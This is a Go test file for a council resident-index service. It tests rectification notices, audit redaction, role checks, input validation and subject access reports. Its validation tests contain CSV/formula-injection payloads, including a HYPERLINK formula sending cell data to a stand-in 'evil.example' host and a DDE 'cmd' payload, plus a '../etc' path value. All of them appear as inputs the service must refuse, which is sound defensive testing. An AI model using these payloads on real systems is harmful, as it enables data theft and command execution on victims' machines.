package access_test

import (
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/resindex/resindex"
	"github.com/resindex/resindex/access"
	"github.com/resindex/resindex/layout"
	"github.com/resindex/resindex/store"
)

// Rectification told once: a correction becomes a numbered notice for
// every other source holding the person, kept in a real store; nothing
// of the person changes, and the audit log never holds the new values.

const igRole = "information_governance"

// rectifyEnv is a service with notices kept in a real store, over Ann Lee
// (P1: council tax, electoral roll twice, libraries and a deleted adult
// social care record), a shielded member of staff (P2) and a child (P3).
type rectifyEnv struct {
	*env
	db *store.DB
}

func newRectifyEnv(t testing.TB) *rectifyEnv {
	t.Helper()
	db, err := store.Open(store.Options{Dir: t.TempDir(), GCInterval: -1, MemTableSize: 1 << 20, BlockCacheSize: 1 << 20})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	gone := rec(srcASC, "A1")
	gone.Deleted = true
	e := newEnv(t, bothPolicies(t),
		person(1, rec(srcCT, "C1"), rec(srcER, "E2"), rec(srcER, "E1"), rec(srcLib, "L1", active("2019-01-01")), gone),
		person(2, rec(srcCT, "C2", flags(resindex.FlagStaff)), rec(srcER, "E3")),
		person(3, rec(srcCSC, "K1", dob("2015-01-01"))))
	svc, err := access.New(e.svc.Policy(), e.idx, e.ov, e.log, access.Options{Key: testKey, Now: func() time.Time { return *e.now }, Notices: db})
	if err != nil {
		t.Fatal(err)
	}
	e.svc = svc
	return &rectifyEnv{env: e, db: db}
}

func newAddress() resindex.Correction {
	return resindex.Correction{Field: "address", Address: &resindex.CorrectedAddress{Lines: []string{"  12 Elm Road ", ""}, Postcode: "sw1a1aa", UPRN: "000023336999"},
		ReportedVia: srcCT, Reason: "Resident phoned the contact centre"}
}

func TestRectifyNoticeForEveryOtherSource(t *testing.T) {
	e := newRectifyEnv(t)
	before, _ := e.idx.Person(pid(1))
	n, err := e.svc.Rectify(as(igRole), e.svc.Ref(pid(1)), newAddress())
	if err != nil {
		t.Fatal(err)
	}
	// Council tax was told by the resident; the deleted social care record
	// is no record; the library record outside the activity window is
	// still held by the library.
	want := []resindex.NoticeTarget{{Source: srcER, Records: []string{"E1", "E2"}}, {Source: srcLib, Records: []string{"L1"}}}
	if n.Seq != 1 || n.Person != pid(1) || !slices.EqualFunc(n.Targets, want, sameTarget) {
		t.Fatalf("notice %d for %s to %+v, want notice 1 for %s to %+v", n.Seq, n.Person, n.Targets, pid(1), want)
	}
	if a := n.Correction.Address; a.Postcode != "SW1A 1AA" || a.UPRN != "23336999" || !slices.Equal(a.Lines, []string{"12 Elm Road"}) {
		t.Fatalf("the address as kept: %+v", a)
	}
	stored := e.notices(t)
	if len(stored) != 1 || mustJSON(t, stored[0]) != mustJSON(t, n) {
		t.Fatalf("stored notices %v, want the one returned", stored)
	}
	if after, _ := e.idx.Person(pid(1)); mustJSON(t, after) != mustJSON(t, before) {
		t.Fatal("rectification changed the person's records")
	}
	n2, err := e.svc.Rectify(as(igRole), e.svc.Ref(pid(1)), resindex.Correction{Field: "dob", DOB: "1980-06-05", Reason: "birth certificate seen"})
	if err != nil || n2.Seq != 2 || len(n2.Targets) != 3 {
		t.Fatalf("a second notice: %+v, %v; want notice 2 to all three sources", n2, err)
	}
}

func sameTarget(a, b resindex.NoticeTarget) bool {
	return a.Source == b.Source && slices.Equal(a.Records, b.Records)
}

func (e *rectifyEnv) notices(t testing.TB) []*resindex.Notice {
	t.Helper()
	var out []*resindex.Notice
	err := e.db.View(func(tx resindex.Txn) error {
		return access.ScanNotices(tx, 0, func(n *resindex.Notice) error { out = append(out, n); return nil })
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestRectifyAuditHasNoValues(t *testing.T) {
	e := newRectifyEnv(t)
	c := newAddress()
	c.Reason = "moved to 12 Elm Road"
	if _, err := e.svc.Rectify(as(igRole), e.svc.Ref(pid(1)), c); err != nil {
		t.Fatal(err)
	}
	last := e.log.last(t)
	raw := mustJSON(t, last)
	if last.Action != "rectify" || last.Outcome != "ok" || !slices.Contains(last.Persons, pid(1)) {
		t.Fatalf("audit entry %s", raw)
	}
	for _, v := range []string{"Elm", "SW1A", "23336999"} {
		if strings.Contains(raw, v) {
			t.Fatalf("the audit entry holds the corrected value %q: %s", v, raw)
		}
	}
	if !strings.Contains(last.Query, "electoral_roll, libraries") || !strings.Contains(last.Query, "reported via council_tax") {
		t.Fatalf("the audit entry does not name the sources told: %s", raw)
	}
}

// TestRectifyWho: only the rights ability rectifies; invisible persons
// and unknown references are not found; a shielded person needs no
// reason beyond the correction's; every call is audited.
func TestRectifyWho(t *testing.T) {
	e := newRectifyEnv(t)
	for _, c := range []struct {
		role, ref string
		kind      error
	}{
		{igRole, e.svc.Ref(pid(1)), nil},
		{igRole, e.svc.Ref(pid(2)), nil}, // shielded: the correction's reason is the reason
		{igRole, e.svc.Ref(pid(3)), nil}, // a child: the role sees children
		{igRole, "nobody", resindex.ErrNotFound},
		{igRole, pid(1), resindex.ErrNotFound}, // an ID, without resolve_ids
		{"frontline", e.svc.Ref(pid(1)), resindex.ErrForbidden},
		{"auditor", e.svc.Ref(pid(1)), resindex.ErrForbidden},
		{"admin", e.svc.Ref(pid(1)), resindex.ErrForbidden},
		{"no_such_role", e.svc.Ref(pid(1)), resindex.ErrForbidden},
	} {
		before := e.log.len()
		_, err := e.svc.Rectify(as(c.role), c.ref, resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "Anne", Family: "Lee"}, Reason: "deed poll"})
		if (c.kind == nil) != (err == nil) || (c.kind != nil && !errors.Is(err, c.kind)) {
			t.Errorf("%s rectifying %s: %v, want %v", c.role, c.ref, err, c.kind)
		}
		if e.log.len() != before+1 {
			t.Errorf("%s rectifying %s: %d audit entries, want 1", c.role, c.ref, e.log.len()-before)
		}
	}
	if n := len(e.notices(t)); n != 3 {
		t.Fatalf("%d notices kept, want 3", n)
	}
}

func TestRectifyWithoutStore(t *testing.T) {
	e := newEnv(t, bothPolicies(t), person(1, rec(srcCT, "C1")))
	_, err := e.svc.Rectify(as(igRole), e.svc.Ref(pid(1)), newAddress())
	if !errors.Is(err, access.ErrNoNotices) {
		t.Fatalf("%v, want ErrNoNotices", err)
	}
}

// TestCorrectionRefused: malformed corrections are refused naming the
// field, and nothing is kept.
func TestCorrectionRefused(t *testing.T) {
	e := newRectifyEnv(t)
	name := &resindex.CorrectedName{Given: "Anne", Family: "Lee"}
	addr := func(lines []string, pc, uprn string) *resindex.CorrectedAddress {
		return &resindex.CorrectedAddress{Lines: lines, Postcode: pc, UPRN: uprn}
	}
	for _, c := range []struct {
		name  string
		c     resindex.Correction
		field string
	}{
		{"no field", resindex.Correction{Reason: "r"}, "field"},
		{"unknown field", resindex.Correction{Field: "nino", Reason: "r"}, "field"},
		{"name missing", resindex.Correction{Field: "name", Reason: "r"}, "name"},
		{"given missing", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Family: "Lee"}, Reason: "r"}, "name.given"},
		{"family blank", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "A", Family: "  "}, Reason: "r"}, "name.family"},
		{"name too long", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: strings.Repeat("a", 101), Family: "L"}, Reason: "r"}, "name.given"},
		{"control character", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "A\x00", Family: "L"}, Reason: "r"}, "name.given"},
		{"not UTF-8", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "A\xff", Family: "L"}, Reason: "r"}, "name.given"},
		{"formula given", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: `=HYPERLINK("http://evil.example/?"&A1,"Ann")`, Family: "Lee"}, Reason: "r"}, "name.given"},
		{"plus family", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "Ann", Family: "+Lee"}, Reason: "r"}, "name.family"},
		{"minus family", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "Ann", Family: "-2+3"}, Reason: "r"}, "name.family"},
		{"at given", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "@SUM(1+1)", Family: "Lee"}, Reason: "r"}, "name.given"},
		{"formula after spaces", resindex.Correction{Field: "name", Name: &resindex.CorrectedName{Given: "  =1+1", Family: "Lee"}, Reason: "r"}, "name.given"},
		{"formula address line", resindex.Correction{Field: "address", Address: addr([]string{"1 A St", "=cmd|' /C calc'!A0"}, "SW1A 1AA", ""), Reason: "r"}, "address.lines"},
		{"at address line", resindex.Correction{Field: "address", Address: addr([]string{"@1 A St"}, "SW1A 1AA", ""), Reason: "r"}, "address.lines"},
		{"name with a dob", resindex.Correction{Field: "name", Name: name, DOB: "1980-01-01", Reason: "r"}, "field"},
		{"dob missing", resindex.Correction{Field: "dob", Reason: "r"}, "dob"},
		{"dob partial", resindex.Correction{Field: "dob", DOB: "1980-05", Reason: "r"}, "dob"},
		{"dob day month year", resindex.Correction{Field: "dob", DOB: "06/05/1980", Reason: "r"}, "dob"},
		{"dob no such day", resindex.Correction{Field: "dob", DOB: "1980-02-30", Reason: "r"}, "dob"},
		{"dob future", resindex.Correction{Field: "dob", DOB: "2027-01-01", Reason: "r"}, "dob"},
		{"dob too old", resindex.Correction{Field: "dob", DOB: "1850-01-01", Reason: "r"}, "dob"},
		{"dob with an address", resindex.Correction{Field: "dob", DOB: "1980-01-01", Address: addr([]string{"1 A St"}, "SW1A 1AA", ""), Reason: "r"}, "field"},
		{"address missing", resindex.Correction{Field: "address", Reason: "r"}, "address"},
		{"no lines", resindex.Correction{Field: "address", Address: addr([]string{" ", ""}, "SW1A 1AA", ""), Reason: "r"}, "address.lines"},
		{"seven lines", resindex.Correction{Field: "address", Address: addr(strings.Split("a b c d e f g", " "), "SW1A 1AA", ""), Reason: "r"}, "address.lines"},
		{"line too long", resindex.Correction{Field: "address", Address: addr([]string{strings.Repeat("x", 101)}, "SW1A 1AA", ""), Reason: "r"}, "address.lines"},
		{"bad postcode", resindex.Correction{Field: "address", Address: addr([]string{"1 A St"}, "12345", ""), Reason: "r"}, "address.postcode"},
		{"no postcode", resindex.Correction{Field: "address", Address: addr([]string{"1 A St"}, "", ""), Reason: "r"}, "address.postcode"},
		{"bad UPRN", resindex.Correction{Field: "address", Address: addr([]string{"1 A St"}, "SW1A 1AA", "12AB"), Reason: "r"}, "address.uprn"},
		{"UPRN too long", resindex.Correction{Field: "address", Address: addr([]string{"1 A St"}, "SW1A 1AA", "1234567890123"), Reason: "r"}, "address.uprn"},
		{"address with a name", resindex.Correction{Field: "address", Address: addr([]string{"1 A St"}, "SW1A 1AA", ""), Name: name, Reason: "r"}, "field"},
		{"bad reported_via", resindex.Correction{Field: "name", Name: name, ReportedVia: "Council Tax", Reason: "r"}, "reported_via"},
		{"no reason", resindex.Correction{Field: "name", Name: name}, "reason"},
		{"reason too long", resindex.Correction{Field: "name", Name: name, Reason: strings.Repeat("r", 501)}, "reason"},
	} {
		_, err := e.svc.Rectify(as(igRole), e.svc.Ref(pid(1)), c.c)
		var in *access.InputError
		if !errors.As(err, &in) || in.Field != c.field {
			t.Errorf("%s: %v, want an input error for %s", c.name, err, c.field)
		}
		if last := e.log.last(t); last.Outcome != "bad_request" {
			t.Errorf("%s: audited as %s, want bad_request", c.name, last.Outcome)
		}
	}
	if n := len(e.notices(t)); n != 0 {
		t.Fatalf("%d notices kept from refused corrections", n)
	}
}

func TestParseCorrection(t *testing.T) {
	for _, c := range []struct {
		in, field string // field "" for a correction taken
	}{
		{`{"field":"dob","dob":"1980-06-05","reason":"certificate"}`, ""},
		{`{"field":"name","name":{"given":"Anne","family":"Lee"},"reported_via":"housing","reason":"deed poll"}`, ""},
		{`{"field":"address","address":{"lines":["1 A St"],"postcode":"sw1a 1aa"},"reason":"moved"}`, ""},
		{`{"field":"dob","dob":"1980-06-05","reason":"x","colour":"red"}`, "correction"},
		{`{"field":"name","name":{"given":"A","family":"L","title":"Dr"},"reason":"x"}`, "correction"},
		{`{"field":"dob","dob":19800605,"reason":"x"}`, "correction"},
		{`{"field":"dob","dob":"1980-06-05","reason":"x"} {}`, "correction"},
		{`[]`, "correction"},
		{``, "correction"},
		{`{"field":"dob","dob":"1980-06-05"}`, "reason"},
	} {
		got, err := access.ParseCorrection([]byte(c.in), testNow)
		var in *access.InputError
		switch {
		case c.field == "" && err != nil:
			t.Errorf("%s: %v", c.in, err)
		case c.field != "" && (!errors.As(err, &in) || in.Field != c.field):
			t.Errorf("%s: %v, want an input error for %s", c.in, err, c.field)
		case c.field == "" && got.Field == "":
			t.Errorf("%s: no field read", c.in)
		}
	}
}

// FuzzParseCorrection: any input is refused with an input error naming a
// field, or taken in a form that is taken again unchanged.
func FuzzParseCorrection(f *testing.F) {
	for _, s := range []string{
		`{"field":"dob","dob":"1980-06-05","reason":"certificate"}`,
		`{"field":"name","name":{"given":"=1+1","family":"+Lee"},"reason":"phoned"}`,
		`{"field":"name","name":{"given":"Anne","family":"Lee"},"reported_via":"housing","reason":"deed poll"}`,
		`{"field":"address","address":{"lines":["1 A St",""],"postcode":"sw1a1aa","uprn":"0001"},"reason":"moved"}`,
		`{"field":"address","address":{"lines":[]}}`, `{}`, `null`, `{"field":"name","name":null,"reason":"x"}`,
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		c, err := access.ParseCorrection(data, testNow)
		if err != nil {
			var in *access.InputError
			if !errors.As(err, &in) || in.Field == "" {
				t.Fatalf("%v is not an input error naming a field", err)
			}
			return
		}
		var values []string
		if c.Name != nil {
			values = append(values, c.Name.Given, c.Name.Family)
		}
		if c.Address != nil {
			values = append(values, c.Address.Lines...)
		}
		for _, v := range values {
			if access.FormulaLead(v) {
				t.Fatalf("a value a spreadsheet would take for a formula is taken: %q", v)
			}
		}
		again, _ := json.Marshal(c)
		c2, err := access.ParseCorrection(again, testNow)
		if err != nil {
			t.Fatalf("a taken correction %s is refused again: %v", again, err)
		}
		if again2, _ := json.Marshal(c2); string(again2) != string(again) {
			t.Fatalf("taking a correction again changed it: %s, then %s", again, again2)
		}
	})
}

// TestSourceNotices: a source is listed exactly its own notices, after a
// number; other roles are refused; the listing is audited.
func TestSourceNotices(t *testing.T) {
	e := newRectifyEnv(t)
	ig := as(igRole)
	for _, c := range []resindex.Correction{newAddress(), {Field: "dob", DOB: "1980-06-05", ReportedVia: srcLib, Reason: "r"}} {
		if _, err := e.svc.Rectify(ig, e.svc.Ref(pid(1)), c); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := e.svc.Rectify(ig, e.svc.Ref(pid(2)), newAddress()); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		source string
		after  uint64
		want   []uint64
	}{
		{srcER, 0, []uint64{1, 2, 3}},
		{srcLib, 0, []uint64{1}},
		{srcCT, 0, []uint64{2}},
		{srcCT, 2, nil},
		{srcER, 1, []uint64{2, 3}},
		{"housing", 0, nil},
	} {
		got, err := e.svc.SourceNotices(ig, c.source, c.after)
		if err != nil {
			t.Fatal(err)
		}
		var seqs []uint64
		for _, m := range got {
			if m.Source != c.source {
				t.Fatalf("%s's notices include one for %s", c.source, m.Source)
			}
			seqs = append(seqs, m.Seq)
		}
		if !slices.Equal(seqs, c.want) {
			t.Errorf("%s after %d: notices %v, want %v", c.source, c.after, seqs, c.want)
		}
		if last := e.log.last(t); last.Action != "notices" || last.Outcome != "ok" {
			t.Errorf("listing audited as %+v", last)
		}
	}
	if _, err := e.svc.SourceNotices(as("frontline"), srcER, 0); !errors.Is(err, resindex.ErrForbidden) {
		t.Fatalf("frontline listing notices: %v, want forbidden", err)
	}
	var in *access.InputError
	if _, err := e.svc.SourceNotices(ig, "../etc", 0); !errors.As(err, &in) || in.Field != "source" {
		t.Fatalf("a bad source name: %v", err)
	}
}

func TestRectifyForm(t *testing.T) {
	e := newRectifyEnv(t)
	v, err := e.svc.RectifyForm(as(igRole), e.svc.Ref(pid(1)), "")
	if err != nil {
		t.Fatal(err)
	}
	if len(v.Targets) != 3 || v.Person.Name == nil || v.Person.Ref != e.svc.Ref(pid(1)) {
		t.Fatalf("form view %+v", v)
	}
	if _, err := e.svc.RectifyForm(as(igRole), e.svc.Ref(pid(2)), ""); !errors.Is(err, access.ErrReasonRequired) {
		t.Fatalf("a shielded person without a reason: %v", err)
	}
	if _, err := e.svc.RectifyForm(as("frontline"), e.svc.Ref(pid(1)), ""); !errors.Is(err, resindex.ErrForbidden) {
		t.Fatalf("frontline: %v", err)
	}
}

// TestRectifyConcurrently: corrections recorded at once get every number
// once (the store retries a transaction that conflicts on the sequence).
func TestRectifyConcurrently(t *testing.T) {
	e := newRectifyEnv(t)
	errs := make(chan error, 8)
	for range 8 {
		go func() {
			_, err := e.svc.Rectify(as(igRole), e.svc.Ref(pid(1)), resindex.Correction{Field: "dob", DOB: "1980-06-05", Reason: "r"})
			errs <- err
		}()
	}
	for range 8 {
		if err := <-errs; err != nil {
			t.Fatal(err)
		}
	}
	var seqs []uint64
	for _, n := range e.notices(t) {
		seqs = append(seqs, n.Seq)
	}
	if !slices.Equal(seqs, []uint64{1, 2, 3, 4, 5, 6, 7, 8}) {
		t.Fatalf("notice numbers %v, want 1 to 8 once each", seqs)
	}
}

// TestPersonNoticesAndDelete: a person's notices are found for a subject
// access request and removed for an erasure; others' stay, and the
// numbering goes on.
func TestPersonNoticesAndDelete(t *testing.T) {
	e := newRectifyEnv(t)
	for _, p := range []int{1, 2, 1} {
		if _, err := e.svc.Rectify(as(igRole), e.svc.Ref(pid(p)), newAddress()); err != nil {
			t.Fatal(err)
		}
	}
	err := e.db.Update(func(tx resindex.Txn) error {
		mine, err := access.PersonNotices(tx, pid(1))
		if err != nil || len(mine) != 2 || mine[0].Seq != 1 || mine[1].Seq != 3 {
			t.Fatalf("P1's notices: %v, %v; want 1 and 3", mine, err)
		}
		n, err := access.DeleteNotices(tx, pid(1))
		if err != nil || n != 2 {
			t.Fatalf("deleted %d, %v; want 2", n, err)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if left := e.notices(t); len(left) != 1 || left[0].Person != pid(2) {
		t.Fatalf("after deleting P1's: %v", left)
	}
	n, err := e.svc.Rectify(as(igRole), e.svc.Ref(pid(2)), newAddress())
	if err != nil || n.Seq != 4 {
		t.Fatalf("the next notice: %v, %v; want number 4", n, err)
	}
}

// TestSubjectAccessShowsRights: what the person asked of the index (a
// restriction, an objection, corrections) is held about them, so their
// subject access report lists it; another person's is not.
func TestSubjectAccessShowsRights(t *testing.T) {
	e := newRectifyEnv(t)
	svc, err := access.New(e.svc.Policy(), e.idx, e.ov, e.log, access.Options{Key: testKey, Now: func() time.Time { return *e.now },
		Notices: e.db, Rights: e.db})
	if err != nil {
		t.Fatal(err)
	}
	ref := svc.Ref(pid(1))
	if _, err := svc.Rectify(as(igRole), ref, newAddress()); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Rectify(as(igRole), svc.Ref(pid(2)), newAddress()); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Restrict(as(igRole), ref, "accuracy contested"); err != nil {
		t.Fatal(err)
	}
	sar, err := svc.SubjectAccess(as(igRole), ref, "request 16")
	if err != nil {
		t.Fatal(err)
	}
	if len(sar.Rights) != 1 {
		t.Fatalf("rights of %d persons, want 1", len(sar.Rights))
	}
	r := sar.Rights[0]
	if r.Restriction == nil || r.Restriction.Reason != "accuracy contested" || r.Objection != nil {
		t.Errorf("restriction %+v, objection %+v", r.Restriction, r.Objection)
	}
	if len(r.Rectifications) != 1 || r.Rectifications[0].Notice != 1 || r.Rectifications[0].Correction.Field != "address" ||
		!slices.Equal(r.Rectifications[0].Told, []string{srcER, srcLib}) {
		t.Errorf("rectifications %+v, want notice 1 only, told to the register and the library", r.Rectifications)
	}
}

// TestSubjectAccessLogReasons: the report lists looks recorded under an
// ID since merged into the person, and withholds the reason of a look
// that also concerned someone else (another resident's own request).
func TestSubjectAccessLogReasons(t *testing.T) {
	a := person(1, rec(srcCT, "CT1"))
	b := person(2, rec(srcCT, "CT2", named("Bob", "Smith")))
	a.Household, b.Household = "uprn:100023336956", "uprn:100023336956"
	e, db := newRightsEnv(t, a, b, person(3, rec(srcER, "H1")))
	e.idx.households["uprn:100023336956"] = []string{pid(1), pid(2)}
	if _, err := e.svc.Person(as("frontline"), e.svc.Ref(pid(3)), "council tax call"); err != nil {
		t.Fatal(err)
	}
	// P3 merges into P1.
	merged := person(1, rec(srcCT, "CT1"), rec(srcER, "H1"))
	merged.Household = a.Household
	e.idx.add(merged)
	e.idx.persons[pid(3)] = merged
	if err := db.Update(func(t resindex.Txn) error { return t.Set(layout.Redirect(pid(3)), []byte(pid(1))) }); err != nil {
		t.Fatal(err)
	}
	secret := "SAR from Bob Smith, ref IG-123, alleges harassment by his flatmate"
	if _, err := e.svc.SubjectAccessFor(t.Context(), as(igRole), access.SARRequest{Refs: []string{e.svc.Ref(pid(2))},
		Reason: secret, ThirdParties: true, ThirdPartyReason: "flatmate consented"}); err != nil {
		t.Fatal(err)
	}
	sar, err := e.svc.SubjectAccess(as(igRole), e.svc.Ref(pid(1)), "request 9")
	if err != nil {
		t.Fatal(err)
	}
	var view, bobs bool
	for _, x := range sar.Access {
		view = view || x.Action == "view" && x.Reason == "council tax call"
		if strings.Contains(x.Reason, "Bob") {
			t.Errorf("another resident's reason in the report: %+v", x)
		}
		bobs = bobs || x.Action == "subject_access" && strings.HasPrefix(x.Reason, "(withheld")
	}
	if !view || !bobs {
		t.Errorf("access log %+v: want the look at the merged-away P3 with its reason, and Bob's request with its reason withheld", sar.Access)
	}
}
